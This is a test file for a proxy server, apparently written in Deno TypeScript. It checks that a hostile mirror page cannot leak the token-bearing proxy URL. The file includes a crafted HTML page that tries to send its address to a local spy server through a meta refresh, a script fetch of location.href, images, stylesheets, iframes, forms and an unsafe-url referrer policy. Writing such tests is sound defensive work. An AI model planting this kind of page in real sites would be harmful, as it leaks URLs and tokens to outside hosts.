/** What a file of a hostile mirror can do in a browser that opens it at the proxy's address. */

import { assertEquals } from "@std/assert";
import { createHandler } from "../../server.ts";
import { withPage } from "../support/programs/browser.ts";
import { testWith } from "../support/programs/programs.ts";

const TOKEN = "s3cret-token";

/** A page that sends its address to `spy` in every way that needs no script, and by script. */
function hostilePage(spy: string): string {
  return `<!DOCTYPE html><meta name="referrer" content="unsafe-url">
<meta http-equiv="refresh" content="0; url=${spy}refresh">
<script>fetch("${spy}script?" + location.href, { mode: "no-cors" })</script>
<img src="${spy}image"><link rel="stylesheet" href="${spy}style">
<iframe src="${spy}frame"></iframe>
<form id="form" action="${spy}form"><input name="a"><button>Send</button></form>
<p><a id="link" href="${spy}link" referrerpolicy="unsafe-url">Next</a></p>`;
}

testWith(
  ["chromium"],
  "a page of a mirror does not get the address, whatever its type",
  async () => {
    const seen: string[] = [];
    await using spy = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, (request) => {
      const { pathname, search } = new URL(request.url);
      if (pathname !== "/favicon.ico") {
        seen.push(`${pathname}${search} ${request.headers.get("referer")}`);
      }
      return new Response("seen", { headers: { "content-type": "text/plain" } });
    });
    const page = hostilePage(`http://127.0.0.1:${spy.addr.port}/`);
    const types: [string, string][][] = [
      [["content-type", "text/html"]],
      [["content-type", "video/mp4, text/html"]],
      [["content-type", "video/mp4"], ["content-type", "text/html"]],
      [["content-type", "video/mp4; text/html"]],
      [["content-type", "video/x+xml"]],
      [["content-type", "image/svg+xml"]],
      [["content-type", "*/*"]],
      [],
    ];
    await using mirror = Deno.serve(
      { port: 0, hostname: "127.0.0.1", onListen() {} },
      (request) => {
        const body = new TextEncoder().encode(page);
        const index = Number(new URL(request.url).pathname.slice(1));
        return new Response(body, {
          headers: [...types[index]!, ["content-length", `${body.byteLength}`]],
        });
      },
    );
    await using handler = createHandler({ allowPrivate: true, token: TOKEN });
    await using proxy = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, handler);
    for (const index of types.keys()) {
      const file = encodeURIComponent(`http://127.0.0.1:${mirror.addr.port}/${index}`);
      const url = `http://127.0.0.1:${proxy.addr.port}/proxy?url=${file}&token=${TOKEN}`;
      const response = await fetch(url);
      const { headers } = response;
      await response.body?.cancel();
      assertEquals(headers.get("referrer-policy"), "no-referrer");
      assertEquals(headers.get("content-security-policy")!.startsWith("sandbox;"), true);
      const shown = headers.get("content-type") === "text/html";
      if (!shown) continue;
      await withPage(url, async (page) => {
        await page.locator("#form button").click({ noWaitAfter: true });
        await page.locator("#link").click();
        await page.getByText("seen").waitFor();
      });
    }
    // Only the link was followed, and it does not say from where.
    assertEquals(seen, ["/link null"]);
  },
);
